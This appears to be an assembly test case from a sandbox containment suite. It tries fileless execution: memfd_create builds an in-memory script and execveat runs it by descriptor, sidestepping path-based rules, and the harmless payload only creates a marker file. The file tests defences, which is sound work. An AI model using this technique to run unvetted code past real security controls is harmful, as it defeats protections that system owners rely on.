; attack: runs a program that is on no disk
; works: the file "executed" appears
; contained: signal SIGSYS or errno EACCES
;
; memfd_create makes a file in memory, and execveat runs it by its descriptor.
; Rules about paths see none.

%include "attack.inc"

    section .rodata
name:
    db      "program", 0
nothing:
    db      0
script:
    db      "#!/bin/sh", 10, ": > executed", 10
SCRIPT_SIZE equ $ - script

    section .data
    align   8
arguments:
    dq      name, 0
environment:
    dq      0

    section .text
attack:
    lea     rdi, [rel name]
    xor     esi, esi
    mov     eax, SYS_memfd_create
    syscall
    test    rax, rax
    js      outcome
    mov     ebx, eax
    mov     edi, eax
    lea     rsi, [rel script]
    mov     edx, SCRIPT_SIZE
    mov     eax, SYS_write
    syscall
    mov     edi, ebx
    lea     rsi, [rel nothing]
    lea     rdx, [rel arguments]
    lea     r10, [rel environment]
    mov     r8d, AT_EMPTY_PATH
    mov     eax, SYS_execveat
    syscall
    jmp     outcome

    section .note.GNU-stack noalloc noexec nowrite progbits
